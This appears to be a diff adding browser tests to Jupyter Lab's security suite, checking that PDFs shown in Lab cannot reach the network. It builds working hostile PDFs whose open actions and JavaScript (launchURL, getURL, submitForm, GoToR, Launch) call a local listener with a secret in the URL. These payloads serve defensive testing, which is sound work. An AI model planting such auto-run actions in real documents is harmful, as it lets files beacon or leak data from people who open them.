@@ -20,7 +20,7 @@ import base64
 import html
 import json
 import urllib.request
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler
 from typing import Any
 
@@ -224,6 +224,135 @@ def test_documents_inside_an_html_file_reach_nothing(page: Page, lab: LabServer)
         page.wait_for_timeout(2000)
         reached = {name: listener.accepted for name, listener in listeners.items() if listener.accepted}
         assert not reached, f"the browser connected for hints inside the page: {reached}"
+    finally:
+        for listener in listeners.values():
+            listener.close()
+
+
+def _pdf(objects: list[bytes]) -> bytes:
+    """A PDF of ``objects`` (numbered from 1, the first the catalog), with its cross-reference table."""
+    out = b"%PDF-1.7\n"
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+
+
+def _report_pdf(catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = ()) -> bytes:
+    """A one-page PDF saying "Report"; ``catalog`` and ``page`` add entries to those dictionaries."""
+    text = b"BT /F1 24 Tf 72 700 Td (Report) Tj ET"
+    return _pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
+            b" /Resources << /Font << /F1 5 0 R >> >> " + page + b">>",
+            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
+            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+            *extra,
+        ]
+    )
+
+
+def _pdf_attacks(url: Callable[[str], bytes]) -> dict[str, bytes]:
+    """PDFs whose actions run when the document opens, each naming an address
+    (its own listener): what a PDF can do to reach the network without a click."""
+
+    def js(name: str, code: bytes) -> bytes:
+        return b"<< /S /JavaScript /JS (" + code.replace(b"URL", url(name)) + b") >>"
+
+    return {
+        "open-uri": _report_pdf(b"/OpenAction << /S /URI /URI (" + url("open-uri") + b") >> "),
+        "open-launch-url": _report_pdf(b"/OpenAction " + js("open-launch-url", b'app.launchURL\\("URL", true\\);')),
+        "open-get-url": _report_pdf(b"/OpenAction " + js("open-get-url", b'this.getURL\\("URL"\\);')),
+        "open-submit-js": _report_pdf(b"/OpenAction " + js("open-submit-js", b'this.submitForm\\("URL"\\);')),
+        "open-timer": _report_pdf(
+            b"/OpenAction " + js("open-timer", b"app.setTimeOut\\('app.launchURL\\(\"URL\", true\\)', 50\\);")
+        ),
+        "open-submit-form": _report_pdf(
+            b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (" + url("open-submit-form") + b") >> >> "
+        ),
+        "open-remote-goto": _report_pdf(
+            b"/OpenAction << /S /GoToR /F << /FS /URL /F (" + url("open-remote-goto") + b") >> /D [0 /Fit] >> "
+        ),
+        "open-launch": _report_pdf(b"/OpenAction << /S /Launch /F (" + url("open-launch") + b") >> "),
+        "page-open-uri": _report_pdf(page=b"/AA << /O << /S /URI /URI (" + url("page-open-uri") + b") >> >> "),
+        "document-script": _report_pdf(
+            b"/Names << /JavaScript 6 0 R >> ",
+            extra=(b"<< /Names [(a) " + js("document-script", b'app.launchURL\\("URL", true\\);') + b"] >>",),
+        ),
+    }
+
+
+def _wait_for_pdf_viewer(page: Page, name: str) -> None:
+    """Until the browser's PDF viewer (a frame of its own extension) is in the page."""
+    for _ in range(60):
+        if any(frame.url.startswith("chrome-extension://") for frame in page.frames):
+            return
+        page.wait_for_timeout(500)
+    raise AssertionError(f"{name}: no PDF viewer in the page: {[frame.url for frame in page.frames]}")
+
+
+def test_a_pdf_file_shows_in_lab(page: Page, lab: LabServer) -> None:
+    """Lab shows a PDF in an ``<object>`` of a ``blob:`` URL: the policy allows
+    exactly that (``object-src blob:``), and the browser's viewer draws it."""
+    import matplotlib
+
+    matplotlib.use("agg")
+    import matplotlib.pyplot as plt
+
+    figure = plt.figure()
+    plt.plot([1, 2, 3])
+    figure.savefig(lab.notebooks / "figure.pdf")
+    plt.close(figure)
+    console: list[str] = []
+    page.on("console", lambda msg: console.append(msg.text))
+    page.goto(lab.url("/lab/tree/figure.pdf?reset"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
+    page.wait_for_function(
+        "() => [...document.querySelectorAll('.jp-PDFContainer iframe')]"
+        ".some(f => (f.contentDocument?.querySelector('object')?.data || '').startsWith('blob:'))",
+        timeout=APP_LOAD_TIMEOUT,
+    )
+    _wait_for_pdf_viewer(page, "figure.pdf")
+    # (the empty <object> Lab makes before it has the data is refused: "from ''")
+    assert not [line for line in _refusals(console) if "from 'blob:" in line], _refusals(console)
+
+
+def test_a_pdf_file_opened_in_lab_reaches_nothing(page: Page, lab: LabServer) -> None:
+    """Chromium's PDF viewer runs a document's open actions and scripts (in
+    PDFium); none of them may reach an address once the file shows in Lab."""
+    listeners: dict[str, LoopbackListener] = {}
+
+    def url(name: str) -> bytes:
+        listener = listeners.setdefault(name, LoopbackListener(b"HTTP/1.0 200 OK\r\n\r\n"))
+        return f"http://127.0.0.1:{listener.port}/?d={SECRET}".encode()
+
+    folder = lab.notebooks / "pdfs"
+    folder.mkdir()
+    try:
+        attacks = _pdf_attacks(url)
+        for name, data in attacks.items():
+            (folder / f"{name}.pdf").write_bytes(data)
+        # the control: this viewer runs a document's open-action script (PDFium's app.alert is a dialog)
+        (folder / "control.pdf").write_bytes(
+            _report_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\('ran'\\);) >> ")
+        )
+        dialogs: list[str] = []
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        opened: list[str] = []
+        page.context.on("page", lambda new: opened.append(new.url))
+        for name in ["control", *attacks]:
+            page.goto(lab.url(f"/lab/tree/pdfs/{name}.pdf?reset"), wait_until="domcontentloaded")
+            _wait_for_pdf_viewer(page, name)
+            page.wait_for_timeout(2000)  # open actions run as the document loads
+        assert dialogs == ["ran"], dialogs
+        reached = {name: listener.accepted for name, listener in listeners.items() if listener.accepted}
+        assert reached == {}, f"a PDF opened in Lab reached the network: {reached}"
+        assert opened == [], f"a PDF opened in Lab opened a browser tab: {opened}"
     finally:
         for listener in listeners.values():
             listener.close()
